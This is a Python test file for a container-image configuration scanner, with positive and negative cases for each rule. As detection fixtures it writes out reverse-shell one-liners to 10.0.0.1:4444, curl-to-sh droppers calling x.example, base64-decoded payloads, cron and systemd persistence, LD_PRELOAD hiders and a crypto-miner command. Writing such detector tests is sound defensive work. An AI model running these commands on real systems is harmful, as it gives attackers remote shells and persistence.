"""test_config.py - the config detector on crafted images: each check with a positive
and a negative, the path/source of every finding (config key or history step)."""
from cfgimg import only, rules, scan_config
from lctest import eq, main, test

USER = {'User': '1000'}  # so that "runs as root" stays out of the way


def cfg(**kw):
    d = dict(USER)
    d.update(kw)
    return d


@test
def download_run_entrypoint(tmp):
    f = scan_config(tmp, cfg(Entrypoint=['/bin/sh', '-c', 'curl -fsSL http://x.example/i.sh | sh']))
    got = only(f, 'config.download_run')
    eq(len(got), 1, str(f))
    eq(got[0]['source'], 'config')
    eq(got[0]['path'], 'config.Entrypoint')
    eq(got[0]['severity'], 'HIGH')
    # negatives: a download that is not run, a pipe into a checksum tool
    f = scan_config(tmp, cfg(Cmd=['sh', '-c', 'curl -o /tmp/x http://h/x && sha256sum /tmp/x | tee log']))
    eq(only(f, 'config.download_run'), [], str(f))


@test
def download_run_history_variants(tmp):
    steps = ['RUN /bin/sh -c wget -qO- https://get.example.com | sudo -E bash -  # buildkit',
             'RUN /bin/sh -c bash <(curl -s https://x.example/install)',
             '/bin/sh -c curl -o /tmp/a https://h/a && chmod +x /tmp/a && /tmp/a',
             '/bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*']
    f = scan_config(tmp, cfg(), history=steps, layers=[])
    got = only(f, 'config.download_run')
    eq(sorted(x['path'] for x in got), ['history[0]', 'history[1]', 'history[2]'], str(f))
    for x in got:
        eq(x['source'], 'history')
        eq(x['severity'], 'MEDIUM')
        assert x['details']['created_by'], x


@test
def base64_run(tmp):
    f = scan_config(tmp, cfg(Cmd=['/bin/bash', '-c', 'echo Y3VybCBodHRwOi8veAo= | base64 -d | bash']))
    got = only(f, 'config.base64_run')
    eq(len(got), 1, str(f))
    eq(got[0]['path'], 'config.Cmd')
    f = scan_config(tmp, cfg(), history=['/bin/sh -c eval "$(echo ZWNobyBoaQ== | base64 --decode)"',
                                         '/bin/sh -c python3 -c "exec(base64.b64decode(\'cHJpbnQ=\'))"'],
                    layers=[])
    eq(sorted(x['path'] for x in only(f, 'config.base64_run')), ['history[0]', 'history[1]'], str(f))
    # negative: decoding into a file
    f = scan_config(tmp, cfg(), history=['/bin/sh -c base64 -d key.b64 > /etc/key.pem'], layers=[])
    eq(only(f, 'config.base64_run'), [], str(f))


@test
def reverse_shells(tmp):
    cases = ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
             'nc -e /bin/sh 10.0.0.1 4444',
             '0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196',
             'sh -i >& /dev/udp/10.0.0.1/4444 0>&1',
             'ncat 10.0.0.1 4444 --sh-exec /bin/sh',
             'socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr',
             'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
             'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)\'']
    for c in cases:
        f = scan_config(tmp, cfg(Entrypoint=['/bin/sh', '-c', c]))
        got = only(f, 'config.reverse_shell')
        eq(len(got), 1, c + ' -> ' + str(rules(f)))
        eq(got[0]['severity'], 'CRITICAL')
    for c in ['nc -z db 5432', 'socat TCP-LISTEN:8080,fork TCP:app:80', 'nginx -g "daemon off;"',
              '</dev/tcp/localhost/8080', 'exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3',
              'timeout 1 bash -c "cat < /dev/null > /dev/tcp/db/5432"']:
        f = scan_config(tmp, cfg(Entrypoint=['/bin/sh', '-c', c]))
        eq(only(f, 'config.reverse_shell'), [], c)


@test
def chmod_checks(tmp):
    f = scan_config(tmp, cfg(), history=['/bin/sh -c chmod -R 777 /app', '/bin/sh -c chmod u+s /usr/local/bin/helper',
                                         '/bin/sh -c chmod 4755 /opt/x'], layers=[])
    eq(sorted(x['path'] for x in only(f, 'config.chmod_world_writable')), ['history[0]'], str(f))
    eq(sorted(x['path'] for x in only(f, 'config.chmod_setuid')), ['history[1]', 'history[2]'], str(f))
    f = scan_config(tmp, cfg(), history=['/bin/sh -c chmod 1777 /tmp && chmod 755 /app && chmod +x /entry.sh'],
                    layers=[])
    eq(rules(f), [], str(f))


@test
def runs_as_root(tmp):
    f = scan_config(tmp, {})
    got = only(f, 'config.runs_as_root')
    eq([(x['severity'], x['path']) for x in got], [('LOW', 'config.User')])
    f = scan_config(tmp, {'User': 'root'})
    eq([x['severity'] for x in only(f, 'config.runs_as_root')], ['MEDIUM'])
    f = scan_config(tmp, {'User': '0:0'})
    eq([x['severity'] for x in only(f, 'config.runs_as_root')], ['MEDIUM'])
    f = scan_config(tmp, {'User': 'app:app'})
    eq(only(f, 'config.runs_as_root'), [])


@test
def ports(tmp):
    f = scan_config(tmp, cfg(ExposedPorts={'3333/tcp': {}, '14444/tcp': {}, '80/tcp': {}}))
    eq(sorted(x['details']['port'] for x in only(f, 'config.miner_port')), [3333, 14444])
    eq(only(f, 'config.miner_port')[0]['path'], 'config.ExposedPorts.14444/tcp')
    # SSH only matters with an sshd in the image
    f = scan_config(tmp, cfg(ExposedPorts={'22/tcp': {}}))
    eq(only(f, 'config.ssh_exposed'), [])
    f = scan_config(tmp, cfg(ExposedPorts={'22/tcp': {}}), files={'usr/sbin/sshd': (b'\x7fELF', 0o755)})
    eq(len(only(f, 'config.ssh_exposed')), 1, str(f))


@test
def ld_preload(tmp):
    f = scan_config(tmp, cfg(Env=['PATH=/usr/bin', 'LD_PRELOAD=/usr/lib/libprocesshider.so']))
    got = only(f, 'config.ld_preload')
    eq([(x['path'], x['severity']) for x in got], [('config.Env.LD_PRELOAD', 'HIGH')])
    f = scan_config(tmp, cfg(), history=['/bin/sh -c echo /usr/local/lib/h.so > /etc/ld.so.preload'],
                    files={'etc/ld.so.preload': b'/usr/local/lib/h.so\n'})
    eq(len(only(f, 'config.ld_so_preload_write')), 1, str(f))
    got = only(f, 'config.ld_so_preload')
    eq([(x['path'], x['source'], x['layer_index']) for x in got], [('etc/ld.so.preload', 'file', 0)])
    f = scan_config(tmp, cfg(Env=['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2']))
    eq([x['severity'] for x in only(f, 'config.ld_preload')], ['LOW'])
    f = scan_config(tmp, cfg(Env=['PATH=/usr/bin', 'LD_LIBRARY_PATH=/opt/lib']),
                    files={'etc/ld.so.conf': b'include /etc/ld.so.conf.d/*.conf\n'})
    eq(rules(f), [], str(f))


@test
def sudoers(tmp):
    f = scan_config(tmp, cfg(), files={'etc/sudoers': b'root ALL=(ALL:ALL) ALL\n# x NOPASSWD: ALL\n',
                                       'etc/sudoers.d/dev': b'dev ALL=(ALL) NOPASSWD: ALL\n'})
    got = only(f, 'config.sudo_nopasswd')
    eq([(x['path'], x['line']) for x in got], [('etc/sudoers.d/dev', 1)], str(f))
    f = scan_config(tmp, cfg(), files={'etc/sudoers': b'Defaults env_reset\nadmin ALL=(ALL) NOPASSWD:ALL\n'})
    eq([(x['path'], x['line']) for x in only(f, 'config.sudo_nopasswd')], [('etc/sudoers', 2)], str(f))


@test
def cron_and_systemd(tmp):
    f = scan_config(tmp, cfg(), files={
        'etc/cron.d/update': b'SHELL=/bin/sh\n*/5 * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
        'var/spool/cron/crontabs/root': b'@reboot /tmp/.x/kworker\n',
        'etc/systemd/system/sys-update.service': b'[Service]\nExecStart=/dev/shm/.s/agent\n'})
    got = only(f, 'config.persistence')
    eq(sorted((x['path'], x['line']) for x in got),
       [('etc/cron.d/update', 2), ('etc/systemd/system/sys-update.service', 2),
        ('var/spool/cron/crontabs/root', 1)], str(f))
    eq(len(only(f, 'config.cron_user_crontab')), 1, str(f))
    eq(len(only(f, 'config.systemd_unit')), 1, str(f))
    # packaged-looking jobs are fine
    f = scan_config(tmp, cfg(), files={
        'etc/cron.daily/dpkg': b'#!/bin/sh\nif [ -x /usr/libexec/dpkg/dpkg-db-backup ]; then\n  /usr/libexec/dpkg/dpkg-db-backup\nfi\n',
        'etc/cron.d/e2scrub_all': b'30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -A -r\n',
        'etc/cron.daily/tmpclean': b'#!/bin/sh\nfind /tmp/ -mtime +7 -delete\nrm -rf /tmp/sess_* /var/tmp/cache\n',
        'etc/cron.d/php': b'PATH=/tmp/bin:/usr/bin\n09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n',
        'etc/systemd/system/app.service': (b'[Unit]\nDescription=runs /tmp/x\n[Service]\nExecStart=/usr/bin/app\n', 0o644)})
    eq(rules(f), ['config.systemd_unit'], str(f))
    f = scan_config(tmp, cfg(), files={
        'etc/crontab': b'SHELL=/bin/sh\n* * * * * root /var/tmp/.ICE-unix/.x/run >/dev/null 2>&1\n',
        'etc/cron.hourly/upd': b'#!/bin/sh\ncd /tmp && nohup /dev/shm/.x/upd &\n',
        # download-and-run in cron is the dropper detector's, not repeated here
        'etc/cron.d/fetch': b'* * * * * root curl -s http://x.example/a | sh\n'})
    eq(sorted((x['path'], x['line']) for x in only(f, 'config.persistence')),
       [('etc/cron.hourly/upd', 2), ('etc/crontab', 2)], str(f))


@test
def add_remote_executable(tmp):
    f = scan_config(tmp, cfg(), history=['ADD https://github.com/krallin/tini/releases/download/v0.19.0/tini /tini # buildkit',
                                         'ADD --checksum=sha256:0123 https://example.com/tool /usr/local/bin/tool # buildkit',
                                         'ADD https://example.com/data.tar.gz /srv/data.tar.gz # buildkit'],
                    layers=[])
    got = only(f, 'config.add_remote_executable')
    eq(sorted((x['path'], x['severity']) for x in got), [('history[0]', 'MEDIUM'), ('history[1]', 'LOW')], str(f))


@test
def build_context_and_caches(tmp):
    f = scan_config(tmp, cfg(), files={
        'app/.git/HEAD': b'ref: refs/heads/main\n', 'app/.git/config': b'[core]\n',
        'app/.env': b'DB_PASSWORD=x\n', 'app/.env.example': b'DB_PASSWORD=\n',
        'app/.github/workflows/ci.yml': b'on: push\n', 'app/.gitignore': b'*.o\n',
        'var/cache/apt/archives/curl_8.0_amd64.deb': b'!<arch>\n',
        'var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease': b'x' * 100,
        'var/lib/apt/lists/lock': b''})
    eq([x['path'] for x in only(f, 'config.build_context_git')], ['app/.git'], str(f))
    eq([x['path'] for x in only(f, 'config.build_context_env')], ['app/.env'], str(f))
    caches = only(f, 'config.package_cache')
    eq(sorted(x['path'] for x in caches), ['var/cache/apt/archives/', 'var/lib/apt/lists/'])
    assert all(x['severity'] == 'LOW' for x in caches)
    assert all(x['details']['created_by'] for x in caches), caches


@test
def metadata_history_steps_are_judged_in_the_config(tmp):
    # A CMD step of the history is the config's business: judged once, as config.Cmd.
    f = scan_config(tmp, cfg(Cmd=['sh', '-c', 'nc -e /bin/sh 10.0.0.1 4444']),
                    history=['/bin/sh -c #(nop)  CMD ["sh" "-c" "nc -e /bin/sh 10.0.0.1 4444"]'], layers=[])
    eq([x['path'] for x in only(f, 'config.reverse_shell')], ['config.Cmd'])


@test
def workdir_and_labels(tmp):
    f = scan_config(tmp, cfg(WorkingDir='/dev/shm', Labels={'run': 'curl http://x | bash', 'maintainer': 'a@b'}))
    eq([x['path'] for x in only(f, 'config.workdir_tmp')], ['config.WorkingDir'])
    eq([x['path'] for x in only(f, 'config.download_run')], ['config.Labels.run'])
    f = scan_config(tmp, cfg(WorkingDir='/app', Labels={'org.opencontainers.image.source': 'https://github.com/x/y'}))
    eq(rules(f), [], str(f))


@test
def official_image_build_steps_are_quiet(tmp):
    # Steps as Docker's official images write them: verified downloads, group-shared
    # directories, sticky temp dirs, health checks, allocators.
    steps = [
        '/bin/sh -c set -eux; wget -O python.tar.xz "https://www.python.org/ftp/python/3.12.0/Python-3.12.0.tar.xz"; '
        'echo "$PYTHON_SHA256 *python.tar.xz" | sha256sum -c -; tar --extract --directory /usr/src/python --file python.tar.xz',
        '/bin/sh -c curl -fsSLO --compressed "https://nodejs.org/dist/v20.0.0/node-v20.0.0-linux-x64.tar.xz" '
        '&& curl -fsSLO --compressed "https://nodejs.org/dist/v20.0.0/SHASUMS256.txt.asc" '
        '&& gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc '
        '&& grep " node-v20.0.0-linux-x64.tar.xz$" SHASUMS256.txt | sha256sum -c - '
        '&& tar -xJf "node-v20.0.0-linux-x64.tar.xz" -C /usr/local --strip-components=1 --no-same-owner',
        '/bin/sh -c mkdir -p /var/run/postgresql && chown -R postgres:postgres /var/run/postgresql && chmod 3777 /var/run/postgresql',
        '/bin/sh -c mkdir -p "$GOPATH/src" "$GOPATH/bin" && chmod -R 1777 "$GOPATH"',
        '/bin/sh -c curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg',
        '/bin/sh -c wget -qO- https://example.com/archive.tar.gz | tar xz -C /opt',
        '/bin/sh -c sh -c "echo $CERT | base64 -d > /etc/ssl/certs/extra.pem"',
        '/bin/sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ruby -e "puts 1"',
        '/bin/sh -c chmod -R g=u /app && chmod -R g+rwX /app && chmod 2775 /srv/shared',
        '/bin/sh -c apt-get install -y --no-install-recommends netcat-openbsd sudo cron',
    ]
    f = scan_config(tmp, cfg(Healthcheck={'Test': ['CMD-SHELL', 'nc -z localhost 6379 || exit 1']}),
                    history=steps, layers=[])
    eq(rules(f), [], str(f))
    for hc in ['curl -f http://localhost/ || exit 1', 'wget -qO- http://127.0.0.1:8080/health || exit 1',
               'bash -c "</dev/tcp/localhost/5432"']:
        f = scan_config(tmp, cfg(Healthcheck={'Test': ['CMD-SHELL', hc]},
                                 Entrypoint=['/docker-entrypoint.sh'], Cmd=['nginx', '-g', 'daemon off;']))
        eq(rules(f), [], hc + ': ' + str(rules(f)))


@test
def long_hostile_strings_stay_fast(tmp):
    # Unbounded fillers searched from every keyword are quadratic: 64 KiB of "curl "
    # once took 20 s. Each must now be judged in well under a second.
    import time
    for text in ['curl ' * 12000, 'sh -i ' * 10000, 'nc ' * 20000, 'eval $( ' * 8000,
                 'mkfifo ' * 8000 + ';' + 'x ' * 8000]:
        t = time.time()
        f = scan_config(tmp, cfg(Env=['X=' + text], Cmd=['sh', '-c', text]),
                        history=['/bin/sh -c ' + text], layers=[])
        assert time.time() - t < 5, (text[:20], time.time() - t)
    # and a payload after a long filler is still found
    f = scan_config(tmp, cfg(Cmd=['sh', '-c', 'true; ' * 5000 + 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']))
    eq(len(only(f, 'config.reverse_shell')), 1, str(rules(f)))


@test
def removed_git_is_still_in_the_image(tmp):
    import imgwriter as w
    L0 = w.Layer(created_by='COPY . /app # buildkit')
    L0.dir('app')
    L0.dir('app/.git')
    L0.file('app/.git/HEAD', b'ref: refs/heads/main\n')
    L0.file('app/main.py', b'print(1)\n')
    L1 = w.Layer(created_by='RUN rm -rf /app/.git # buildkit')
    L1.whiteout('app/.git')
    f = scan_config(tmp, cfg(), layers=[L0, L1])
    got = only(f, 'config.build_context_git')
    eq([(x['path'], x['layer_index'], x['removed_in_layer']) for x in got], [('app/.git', 0, 1)], str(f))
    eq(got[0]['details']['created_by'], 'COPY . /app # buildkit')


@test
def secret_in_a_history_step_is_not_quoted_in_clear(tmp):
    # the config detector quotes the step that added a file (details.created_by) and the
    # step it judges; a token in that step must come out redacted like everywhere else
    import json

    import imgwriter as w
    tok = 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'
    L0 = w.Layer(created_by='RUN echo GITHUB_TOKEN=%s > /app/.env && curl -fsSL http://x.example/i.sh | sh # buildkit' % tok)
    L0.dir('app')
    L0.file('app/.env', b'DEBUG=1\n')
    f = scan_config(tmp, cfg(), layers=[L0], scanners='config,secrets,credentials')
    assert only(f, 'config.build_context_env') or only(f, 'config.download_run'), rules(f)
    quoted = [x for x in f if 'created_by' in x.get('details', {})]
    assert quoted, rules(f)
    text = json.dumps(f)
    assert tok not in text, [x for x in f if tok in json.dumps(x)]


@test
def every_config_string_is_searched(tmp):
    # secrets, IOCs and miner options in each config field and in the history: the shared
    # walk of the config (lc__config_texts) reaches all of them, with the field in the path
    import json
    tok = 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'
    pool = 'pool.supportxmr.com'
    c = cfg(Env=['PATH=/usr/bin', 'T=%s' % tok],
            Entrypoint=['/usr/bin/xmrig', '-o', 'stratum+tcp://%s:443' % pool],
            Cmd=['sh', '-c', 'echo %s' % tok],
            Healthcheck={'Test': ['CMD', 'curl', '-H', 'Authorization: token %s' % tok]},
            OnBuild=['RUN echo %s' % tok, 'RUN ping %s' % pool],
            Labels={'token': tok, 'pool': pool})
    f = scan_config(tmp, c, history=['/bin/sh -c echo %s' % tok], layers=[],
                    scanners='secrets,ioc,miner')
    paths = {(x['detector'], x['path']) for x in f}
    for want in ['config.Env[1]', 'config.Cmd[2]', 'config.Healthcheck[3]', 'config.OnBuild[0]',
                 'config.Labels[token]', 'history[0]']:
        assert ('secrets', want) in paths, (want, sorted(paths))
    for want in ['config.Entrypoint', 'config.OnBuild', 'config.Labels']:
        assert ('ioc', want) in paths, (want, sorted(paths))
    # the miner reads Entrypoint as one command line: pool and -o option together
    assert ('miner', 'config.Entrypoint') in paths, sorted(paths)
    assert tok not in json.dumps(f), 'token in clear'


if __name__ == '__main__':
    main()
